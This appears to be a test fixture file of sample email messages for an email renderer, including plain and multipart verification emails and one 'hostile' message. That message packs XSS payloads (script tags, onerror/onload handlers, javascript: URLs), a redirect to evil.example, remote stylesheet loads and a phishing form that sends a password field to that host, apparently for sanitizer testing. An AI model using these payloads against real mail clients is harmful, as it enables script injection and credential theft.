// Messages that the walk sends.

export const code = `From: Sample Shop <sender@shop.example>
To: hello@inbox.example
Subject: Confirm your address
Date: Fri, 20 Nov 2026 10:00:00 +0000
Message-ID: <1@shop.example>

Hello,

your verification code is 482913. It is valid for 10 minutes.

Sample Shop
`;

const pixel = "iVBORw0KGgoAAAANSUhEUgAAACAAAAAgCAIAAAD8GO2jAAAAKklEQVR42mOQr/KlKWIYtWDUglELRi0YtWDUglELRi0YtWDUglELhooFABr2mC7mclNRAAAAAElFTkSuQmCC";

export const html = `From: =?utf-8?Q?Gr=C3=BCner_Laden?= <kontakt@shop.example>
To: hello@inbox.example
Subject: =?utf-8?Q?Willkommen_=E2=80=93_bitte_best=C3=A4tigen?=
Date: Fri, 20 Nov 2026 10:05:00 +0000
Message-ID: <2@shop.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=outer

--outer
Content-Type: multipart/related; boundary=inner

--inner
Content-Type: multipart/alternative; boundary=alt

--alt
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Bestätigen Sie Ihre Adresse: https://accounts.shop.example/verify?token=0f3a9c

--alt
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

<html><body style="font-family:sans-serif;background:#f4f6f8;padding:24px"><table width="100%"><tr><td align="center">
<table width="480" style="background:#fff;border-radius:8px" cellpadding="24"><tr><td>
<img src="cid:logo@shop.example" width="64" height="64" alt="Logo">
<h2>Willkommen beim Grünen Laden</h2>
<p>Bestätigen Sie Ihre E-Mail-Adresse, damit Ihr Konto aktiv wird.</p>
<p><a href="https://accounts.shop.example/verify?token=0f3a9c" style="background:#1f7a4d;color:#fff;padding:12px 20px;text-decoration:none;border-radius:6px">E-Mail-Adresse bestätigen</a></p>
<p style="color:#777">Sie haben sich nicht angemeldet? <a href="https://shop.example/not-me">Melden Sie es uns</a>.</p>
<img src="https://track.shop.example/open.gif?id=1" width="1" height="1">
</td></tr></table></td></tr></table></body></html>

--alt--
--inner
Content-Type: image/png
Content-Transfer-Encoding: base64
Content-ID: <logo@shop.example>
Content-Disposition: inline; filename="logo.png"

${pixel}
--inner--
--outer
Content-Type: application/pdf; name="terms.pdf"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="terms.pdf"

JVBERi0xLjQKJSBhIHZlcnkgc21hbGwgZmlsZQo=
--outer--
`;

export const hostile = `From: "<img src=x onerror=PWNED=1>" <evil@shop.example>
To: hello@inbox.example
Subject: <script>PWNED=1</script> "onmouseover="PWNED=1
Date: Fri, 20 Nov 2026 10:06:00 +0000
Message-ID: <3@shop.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css); body{position:fixed}</style></head>
<body onload="parent.PWNED=1"><script>parent.PWNED=1;alert(1)</script><img src="https://evil.example/pixel.gif" onerror="parent.PWNED=1">
<svg onload="parent.PWNED=1"><script>alert(2)</script></svg><iframe src="javascript:parent.PWNED=1"></iframe>
<form action="https://evil.example/"><input name="password"><button>Go</button></form>
<a href="javascript:parent.PWNED=1">click</a><div style="position:fixed;inset:0;background:url(https://evil.example/c.png)">overlay</div>
<object data="https://evil.example/x"></object><video src="https://evil.example/v.mp4" autoplay></video><p id="dialog">harmless end</p></body></html>
`;

export const chinese = `From: =?utf-8?B?56S65L6L5ZWG5bqX?= <service@shop.example>
To: hello@inbox.example
Subject: =?utf-8?B?5oKo55qE55m75b2V6aqM6K+B56CB?=
Date: Fri, 20 Nov 2026 10:07:00 +0000
Message-ID: <4@shop.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

您好，

您的验证码是 739204，5 分钟内有效，请勿告诉他人。

示例商店
`;
